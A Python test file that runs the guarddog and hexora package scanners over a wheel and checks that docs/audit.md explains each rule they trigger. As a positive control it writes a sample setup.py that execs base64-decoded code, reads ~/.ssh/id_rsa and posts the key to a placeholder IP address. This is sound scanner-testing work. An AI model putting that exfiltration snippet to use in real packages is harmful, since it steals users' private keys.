"""What scanners for malicious packages find in the wheel: docs/audit.md explains each of it."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sysconfig
import zipfile
from pathlib import Path
from typing import Any, Callable, List, Set, Tuple

import pytest

from support import CHECKOUT

# A program that steals: what a scanner that works has to see.
STEALING = """
import base64, os, urllib.request
exec(base64.b64decode("aW1wb3J0IG9z"))
keys = open(os.path.expanduser("~/.ssh/id_rsa")).read()
urllib.request.urlopen("http://198.51.100.7/", data=keys.encode())
"""
NOWHERE = "http://127.0.0.1:9"  # guarddog would fetch lists of names, which these rules need not
Finding = Tuple[str, str]


def explained() -> Set[Finding]:
    """Return the rules of scanners that the page explains."""
    page = (CHECKOUT / "docs" / "audit.md").read_text("utf-8")
    return set(re.findall(r"(?m)^\| (guarddog|hexora) \| `([\w-]+)` \|", page))


def answers_of(tool: str, folder: Path, *arguments: str) -> List[Any]:
    """Run a scanner over a folder, and return the lines of JSON that it answers."""
    program = str(Path(sysconfig.get_path("scripts")) / tool)
    done = subprocess.run(
        [program, *arguments, str(folder), "--output-format", "json"],
        cwd=folder.parent,
        env={**os.environ, "HTTPS_PROXY": NOWHERE, "HTTP_PROXY": NOWHERE},
        capture_output=True,
        encoding="utf-8",
        check=False,
    )
    return [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]


def guarddog(folder: Path) -> Set[Finding]:
    """Return the rules by which guarddog notices something in a folder."""
    (said,) = answers_of("guarddog", folder, "pypi", "scan")
    assert not said["errors"], said
    return {("guarddog", rule) for rule, found in said["results"].items() if found}


def hexora(folder: Path) -> Set[Finding]:
    """Return the rules by which hexora notices something in a folder."""
    return {("hexora", each["rule"]) for each in answers_of("hexora", folder, "audit")}


@pytest.mark.parametrize("scan", [guarddog, hexora])
def test_what_scanners_find_is_explained(
    scan: Callable[[Path], Set[Finding]], wheel: str, tmp_path: Path
) -> None:
    """Who scans the wheel finds each answer in docs/audit.md; a thief is found, too."""
    with zipfile.ZipFile(wheel) as archive:
        archive.extractall(tmp_path / "wheel")
    assert scan(tmp_path / "wheel") - explained() == set()
    (tmp_path / "thief").mkdir()
    (tmp_path / "thief" / "setup.py").write_text(STEALING, "utf-8")
    assert scan(tmp_path / "thief") - explained()
